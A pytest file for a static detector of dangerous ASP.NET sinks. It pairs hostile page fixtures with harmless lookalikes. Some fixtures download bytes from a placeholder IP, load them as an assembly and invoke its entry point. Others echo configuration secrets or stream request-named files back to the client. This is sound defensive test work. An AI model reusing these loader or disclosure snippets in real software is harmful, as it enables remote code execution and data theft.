"""Behaviour engine, session 22 (issue 14, A16).

Each group is an item left by session 21 (BENCHMARKS.md, A15's "Left") or a request of this session
(``/work/notes/to_a16.md``): harmless reproductions of a shape that must be found, and ordinary pages of the same
make that stay silent. The pages were written for these tests: nothing is compiled or run, names, files and hosts are
placeholders, and none is a copy of a real shell.
"""

from __future__ import annotations

import pytest

from .rule_tables import sinks_of as _sinks

# --- VB's ``Dim x As T = ...`` in the connection and image qualifiers (A15's left item) ---------------------------
# A configured connection chosen by the request only to connect, and a file or an answer only decoded as an image,
# are silent (sessions 15 and 20). The value held in a VB name declared with its type (``Dim cs As String = ..``,
# ``Dim fs As FileStream = ..``) was read as held in the type's name, which nothing used: the VB pages were flagged.
# Written out, the same values stay named.

_CONNECT_VB = """<%@ Page Language="VB" %>
<script runat="server">
Sub Run_Click(ByVal s As Object, ByVal e As EventArgs)
    USE
End Sub
</script>
<form runat="server"><asp:DropDownList ID="Db" runat="server" /><asp:Label ID="Result" runat="server" /></form>
"""
_ENTRY_VB = "System.Configuration.ConfigurationManager.ConnectionStrings(KEY).ConnectionString"


@pytest.mark.parametrize(
    ("use", "sinks"),
    [
        ("Using con As New System.Data.SqlClient.SqlConnection(ENTRY)\n        con.Open()\n    End Using", set()),
        (
            "Dim cs As String = ENTRY\n    Using con As New System.Data.SqlClient.SqlConnection(cs)\n"
            "        con.Open()\n    End Using",
            set(),
        ),
        ("Dim cs = ENTRY\n    Dim con As New System.Data.SqlClient.SqlConnection(cs)\n    con.Open()", set()),
        (
            "Dim cs As System.String = ENTRY\n    Dim con As New System.Data.SqlClient.SqlConnection()\n"
            "    con.ConnectionString = cs",
            set(),
        ),
        ("Response.Write(ENTRY)", {"config-secret"}),
        ("Dim cs As String = ENTRY\n    Response.Write(cs)", {"config-secret"}),
        ("Dim cs As String = ENTRY\n    Result.Text = cs", {"config-secret"}),
    ],
)
@pytest.mark.parametrize("key", ["Db.SelectedValue", 'Request("db")'])
def test_vb_configured_connection_chosen_only_to_connect(use: str, sinks: set[str], key: str) -> None:
    page = _CONNECT_VB.replace("USE", use).replace("ENTRY", _ENTRY_VB).replace("KEY", key)
    assert _sinks(page) == sinks


_THUMB_VB = """<%@ WebHandler Language="VB" Class="Thumb" %>
Imports System.Drawing
Imports System.Drawing.Imaging
Imports System.IO
Imports System.Web
Public Class Thumb
    Implements IHttpHandler
    Public Sub ProcessRequest(ByVal ctx As HttpContext) Implements IHttpHandler.ProcessRequest
        Dim path As String = ctx.Request.QueryString("file")
        USE
    End Sub
    Public ReadOnly Property IsReusable() As Boolean Implements IHttpHandler.IsReusable
        Get
            Return True
        End Get
    End Property
End Class
"""
_PIXELS_VB = (
    "Using img As Image = Image.FromStream(fs)\n"
    "            Using small As New Bitmap(img, 64, 64)\n"
    "                small.Save(ctx.Response.OutputStream, ImageFormat.Jpeg)\n"
    "            End Using\n"
    "        End Using\n"
    "        fs.Close()"
)
_DOWNLOADED_VB = "Dim b As Byte() = New System.Net.WebClient().DownloadData(path)\n        "


@pytest.mark.parametrize(
    ("use", "sink"),
    [
        # pixels: the file or the answer is only decoded as an image and re-encoded
        ("Dim fs As FileStream = File.OpenRead(path)\n        " + _PIXELS_VB, None),
        ("Dim fs As System.IO.FileStream = New FileStream(path, FileMode.Open)\n        " + _PIXELS_VB, None),
        ("Dim fs = File.OpenRead(path)\n        " + _PIXELS_VB, None),
        ("Dim fs As New FileStream(path, FileMode.Open)\n        " + _PIXELS_VB, None),
        ("Using fs As New FileStream(path, FileMode.Open)\n        " + _PIXELS_VB + "\n        End Using", None),
        (
            "Dim s As Stream = New System.Net.WebClient().OpenRead(path)\n        "
            + _PIXELS_VB.replace("(fs)", "(s)").replace("fs.Close", "s.Close"),
            None,
        ),
        (_DOWNLOADED_VB + "Dim i As New Bitmap(New MemoryStream(b))\n        i.Save(ctx.Response.OutputStream, ImageFormat.Png)", None),
        # bytes: the file or the answer sent back
        ("Dim fs As FileStream = File.OpenRead(path)\n        fs.CopyTo(ctx.Response.OutputStream)", "file-read"),
        (
            "Dim fs As FileStream = File.OpenRead(path)\n        " + _PIXELS_VB + "\n        fs.CopyTo(ctx.Response.OutputStream)",
            "file-read",
        ),
        (_DOWNLOADED_VB + "ctx.Response.BinaryWrite(b)\n        Dim i As New Bitmap(New MemoryStream(b))", "http-out"),
        ("Dim fs As New FileStream(path, FileMode.Open)\n        fs.CopyTo(ctx.Response.OutputStream)", "file-read"),
        ("Dim fs As FileStream = File.OpenRead(path)\n        Dim copy As FileStream = fs\n        " + _PIXELS_VB, "file-read"),
    ],
)
def test_vb_file_or_answer_decoded_as_an_image(use: str, sink: str | None) -> None:
    found = _sinks(_THUMB_VB.replace("USE", use), ".ashx")
    assert found == (set() if sink is None else {sink})


_THUMB_CS = """<%@ WebHandler Language="C#" Class="Thumb" %>
using System.Drawing;
using System.Drawing.Imaging;
using System.IO;
using System.Web;
public class Thumb : IHttpHandler {
    public void ProcessRequest(HttpContext ctx) {
        string path = ctx.Request.QueryString["file"];
        USE
    }
    public bool IsReusable { get { return true; } }
}
"""
_PIXELS_CS = (
    "using (Image img = Image.FromStream(fs)) { using (var small = new Bitmap(img, 64, 64)) "
    "{ small.Save(ctx.Response.OutputStream, ImageFormat.Jpeg); } }"
)


@pytest.mark.parametrize(
    ("use", "sink"),
    [
        # the same with the type written in full (its dot had cut the statement after the '=')
        ("System.IO.FileStream fs = File.OpenRead(path);\n        " + _PIXELS_CS, None),
        ("System.IO.FileStream fs = File.OpenRead(path);\n        fs.CopyTo(ctx.Response.OutputStream);", "file-read"),
        ("FileStream fs = File.OpenRead(path);\n        " + _PIXELS_CS, None),
    ],
)
def test_cs_file_held_in_a_dotted_type_decoded_as_an_image(use: str, sink: str | None) -> None:
    found = _sinks(_THUMB_CS.replace("USE", use), ".ashx")
    assert found == (set() if sink is None else {sink})


def test_vb_xml_document_held_in_a_dotted_type_read_for_fixed_values() -> None:
    page = _THUMB_VB.replace(
        "USE",
        'Dim doc As System.Xml.Linq.XDocument = System.Xml.Linq.XDocument.Load(path)\n        '
        'For Each item In doc.Elements("rss").Elements("channel").Elements("item")\n            '
        'ctx.Response.Write(item.Element("title").Value)\n        Next',
    )
    assert "file-read" not in _sinks(page, ".ashx")
    shown = page.replace('ctx.Response.Write(item.Element("title").Value)', "ctx.Response.Write(doc.ToString())")
    assert "file-read" in _sinks(shown, ".ashx")


# --- An assembly downloaded and loaded: AppDomain's Load, VB's declarations (X51's request, session 22) -------------
# remote-assembly took Assembly.Load of a download held in a C# name. An OSEP-style loader using
# AppDomain.CurrentDomain.Load, and VB pages holding the bytes in ``Dim d() As Byte =`` or ``Dim d As Byte() =``, were
# found by nothing. An update check that loads the downloaded library only to read its version runs none of it.

_FETCH_CS = """<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    string where = "http://192.0.2.51:8000/part.bin";
    USE
}
</script>
"""
_FETCH_VB = """<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim src As String = "http://192.0.2.51/x.dat"
    Dim wc As New System.Net.WebClient()
    USE
End Sub
</script>
"""


@pytest.mark.parametrize(
    ("page", "use", "found"),
    [
        (
            _FETCH_CS,
            "byte[] got = new System.Net.WebClient().DownloadData(where);\n"
            "    System.Reflection.Assembly asm = AppDomain.CurrentDomain.Load(got);\n"
            "    asm.EntryPoint.Invoke(null, new object[] { new string[0] });",
            True,
        ),
        (_FETCH_CS, 'AppDomain.CurrentDomain.Load(new System.Net.WebClient().DownloadData(where)).CreateInstance("M.E");', True),
        (_FETCH_CS, 'System.Reflection.Assembly.Load(new System.Net.WebClient().DownloadData(where)).CreateInstance("M.E");', True),
        (
            _FETCH_VB,
            'Dim d() As Byte = wc.DownloadData(src)\n    Dim a = System.Reflection.Assembly.Load(d)\n'
            '    a.GetType("X.Y").GetMethod("Go").Invoke(Nothing, Nothing)',
            True,
        ),
        (
            _FETCH_VB,
            'Dim d As Byte() = wc.DownloadData(src)\n    Dim a As System.Reflection.Assembly = AppDomain.CurrentDomain.Load(d)\n'
            '    a.EntryPoint.Invoke(Nothing, Nothing)',
            True,
        ),
        (
            _FETCH_VB,
            'Dim a = System.Reflection.Assembly.Load(New System.Net.WebClient().DownloadData(src))\n'
            '    a.CreateInstance("X.Y")',
            True,
        ),
        # the answer's stream copied into memory and loaded from it (X51's addendum)
        (
            _FETCH_CS,
            "var req = System.Net.WebRequest.Create(where);\n"
            "    using (var rs = req.GetResponse().GetResponseStream())\n"
            "    using (var ms = new System.IO.MemoryStream()) {\n        rs.CopyTo(ms);\n"
            "        System.Reflection.Assembly.Load(ms.ToArray()).EntryPoint.Invoke(null, null);\n    }",
            True,
        ),
        (
            _FETCH_CS,
            "using (var s = new System.Net.WebClient().OpenRead(where))\n"
            "    using (var ms = new System.IO.MemoryStream()) {\n        s.CopyTo(ms);\n"
            "        AppDomain.CurrentDomain.Load(ms.ToArray()).EntryPoint.Invoke(null, null);\n    }",
            True,
        ),
        (
            _FETCH_CS,
            "var st = new System.Net.Http.HttpClient().GetStreamAsync(where).Result;\n"
            "    var ms = new System.IO.MemoryStream(); st.CopyTo(ms);\n"
            '    var a = System.Reflection.Assembly.Load(ms.ToArray());\n    a.GetType("L.M").GetMethod("Run").Invoke(null, null);',
            True,
        ),
        # ordinary: the downloaded library's version read and the file kept; a plug-in of the site's own bin (read
        # whole, or opened and copied into memory); an answer's stream copied into memory and shown
        (
            _FETCH_CS,
            'using (var s = System.IO.File.OpenRead(Server.MapPath("~/bin/Plugins/Charts.dll")))\n'
            "    using (var ms = new System.IO.MemoryStream()) {\n        s.CopyTo(ms);\n"
            '        Response.Write(System.Reflection.Assembly.Load(ms.ToArray()).CreateInstance("Charts.R"));\n    }\n'
            "    var feed = new System.Net.WebClient().DownloadData(where);",
            False,
        ),
        (
            _FETCH_CS,
            "using (var rs = System.Net.WebRequest.Create(where).GetResponse().GetResponseStream())\n"
            "    using (var ms = new System.IO.MemoryStream()) {\n        rs.CopyTo(ms);\n"
            '        Response.BinaryWrite(ms.ToArray());\n    }\n    var w = System.Reflection.Assembly.Load("Widgets");',
            False,
        ),
        (
            _FETCH_CS,
            'var wc = new System.Net.WebClient();\n    byte[] lib = wc.DownloadData("https://updates.example.com/R.dll");\n'
            "    var v = System.Reflection.Assembly.Load(lib).GetName().Version;\n"
            '    System.IO.File.WriteAllBytes(Server.MapPath("~/App_Data/R-" + v + ".dll"), lib);',
            False,
        ),
        (
            _FETCH_VB,
            'Dim lib() As Byte = wc.DownloadData("https://updates.example.com/R.dll")\n'
            "    Dim v = System.Reflection.Assembly.Load(lib).GetName().Version\n    Response.Write(v)",
            False,
        ),
        (
            _FETCH_VB,
            'Dim raw() As Byte = System.IO.File.ReadAllBytes(Server.MapPath("~/bin/Plugins/Charts.dll"))\n'
            '    Dim a = System.Reflection.Assembly.Load(raw)\n    Response.Write(a.CreateInstance("Charts.R"))\n'
            '    Dim logo() As Byte = wc.DownloadData("https://cdn.example.com/logo.png")',
            False,
        ),
    ],
)
def test_a_downloaded_assembly_loaded(page: str, use: str, found: bool) -> None:
    assert ("remote-assembly" in _sinks(page.replace("USE", use))) is found


# --- XML text read through a StringReader is no file (B30's request, session 22) -----------------------------------
# A web service's [WebMethod] parameter holding XML, wrapped in a StringReader and an XmlTextReader and read by
# DataSet.ReadXml, was file-read: the reader reads the parameter's text, it opens no path. XmlTextReader's string
# constructor opens the path or URL it is given: that stays named.

_XML_SERVICE = """<%@ WebService Language="C#" Class="StringXml" %>
using System.Data;
using System.IO;
using System.Web.Services;
using System.Xml;

public class StringXml : WebService
{
    [WebMethod]
    public int Count(string conditionXml)
    {
        DataSet ds = new DataSet();
        USE
        return ds.Tables.Count;
    }
}
"""
_XML_VB = """<%@ WebService Language="VB" Class="StringXml" %>
Imports System.Data
Imports System.IO
Imports System.Web.Services
Imports System.Xml

Public Class StringXml
    Inherits WebService
    <WebMethod()> Public Function Count(ByVal conditionXml As String) As Integer
        Dim ds As New DataSet()
        USE
        Return ds.Tables.Count
    End Function
End Class
"""


@pytest.mark.parametrize(
    ("page", "use", "found"),
    [
        (
            _XML_SERVICE,
            "StringReader text = new StringReader(conditionXml);\n"
            "        XmlTextReader reader = new XmlTextReader(text);\n        ds.ReadXml(reader);",
            False,
        ),
        (_XML_SERVICE, "ds.ReadXml(new StringReader(conditionXml));", False),
        (
            _XML_SERVICE,
            "System.IO.StringReader oStream = null;\n        System.Xml.XmlTextReader oReader = null;\n"
            '        if (conditionXml != "") {\n            oStream = new System.IO.StringReader(conditionXml);\n'
            "            oReader = new System.Xml.XmlTextReader(oStream);\n            ds.ReadXml(oReader);\n        }",
            False,
        ),
        (_XML_SERVICE, "using (var r = XmlReader.Create(new StringReader(conditionXml))) { ds.ReadXml(r); }", False),
        (_XML_SERVICE, "var text = new System.IO.StringReader(conditionXml);\n        ds.ReadXml(XmlReader.Create(text));", False),
        (
            _XML_VB,
            "Dim text As New StringReader(conditionXml)\n        Dim reader As XmlTextReader = New XmlTextReader(text)\n"
            "        ds.ReadXml(reader)",
            False,
        ),
        # a path or URL the request names
        (_XML_SERVICE, "XmlTextReader reader = new XmlTextReader(conditionXml);\n        ds.ReadXml(reader);", True),
        (_XML_SERVICE, "ds.ReadXml(conditionXml);", True),
        (
            _XML_SERVICE,
            "var text = new StringReader(conditionXml);\n        var reader = new XmlTextReader(conditionXml);\n"
            "        ds.ReadXml(reader);",
            True,
        ),
        (_XML_VB, "Dim reader As New XmlTextReader(conditionXml)\n        ds.ReadXml(reader)", True),
    ],
)
def test_xml_text_read_through_a_string_reader_is_no_file(page: str, use: str, found: bool) -> None:
    assert ("file-read" in _sinks(page.replace("USE", use), ".asmx")) is found


# --- A control's text Page_Load sets on every request is no posted value (B30's request, session 22) --------------
# An admin page named an upload ``idtxt.Text + extension`` in its click handler; Page_Load set ``idtxt.Text = "P-" +
# DateTime.Now..`` on every request. ASP.NET loads the posted value before Page_Load, so the handler reads the server's
# value: file-write ("posted value of a server control") was a misreading. Set only on the first request, in a
# condition or a block, the client's value survives to the handler and stays a source.

_LOAD_CS = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        LOAD
    }
    protected void addbtn_Click(object sender, EventArgs e)
    {
        string folder = Request.PhysicalApplicationPath + "ProductImages\\\\";
        if (imagefu.HasFile)
        {
            string fname = idtxt.Text + Path.GetExtension(imagefu.PostedFile.FileName);
            imagefu.SaveAs(folder + fname);
        }
    }
</script>
<html><body><form runat="server">
<asp:TextBox ID="idtxt" runat="server" ReadOnly="true" />
<asp:FileUpload ID="imagefu" runat="server" />
<asp:Button ID="addbtn" runat="server" Text="Add" OnClick="addbtn_Click" />
</form></body></html>
"""
_LOAD_VB = """<%@ Page Language="VB" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    Protected Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs)
        LOAD
    End Sub
    Protected Sub addbtn_Click(ByVal sender As Object, ByVal e As EventArgs)
        Dim folder As String = Request.PhysicalApplicationPath & "ProductImages\\"
        If imagefu.HasFile Then
            Dim fname As String = idtxt.Text
            imagefu.SaveAs(folder & fname)
        End If
    End Sub
</script>
<html><body><form runat="server">
<asp:TextBox ID="idtxt" runat="server" ReadOnly="true" />
<asp:FileUpload ID="imagefu" runat="server" />
<asp:Button ID="addbtn" runat="server" Text="Add" OnClick="addbtn_Click" />
</form></body></html>
"""


@pytest.mark.parametrize(
    ("page", "load", "found"),
    [
        (_LOAD_CS, 'idtxt.Text = "P-" + DateTime.Now.ToString("yyMMddHHmmss");', False),
        (_LOAD_CS, 'Title = "Add";\n        idtxt.Text = "P-" + Guid.NewGuid().ToString("N");', False),
        (_LOAD_VB, 'idtxt.Text = "P-" & DateTime.Now.ToString("yyMMddHHmmss")', False),
        # the client's value survives: set only on the first request, in a condition or a block, or not at all
        (_LOAD_CS, 'if (!IsPostBack) idtxt.Text = "P-" + DateTime.Now.ToString("yyMMddHHmmss");', True),
        (_LOAD_CS, 'if (!IsPostBack)\n            idtxt.Text = "P-" + DateTime.Now.Ticks;', True),
        (_LOAD_CS, 'if (!IsPostBack) {\n            idtxt.Text = "P-" + DateTime.Now.Ticks;\n        }', True),
        (_LOAD_CS, 'other.Text = "P-" + DateTime.Now.Ticks;', True),
        (_LOAD_VB, 'If Not IsPostBack Then idtxt.Text = "P-" & DateTime.Now.Ticks', True),
        (_LOAD_VB, 'If Not IsPostBack Then\n            idtxt.Text = "P-" & DateTime.Now.Ticks\n        End If', True),
    ],
)
def test_a_control_text_page_load_sets_on_every_request_is_no_posted_value(page: str, load: str, found: bool) -> None:
    assert ("file-write" in _sinks(page.replace("LOAD", load))) is found
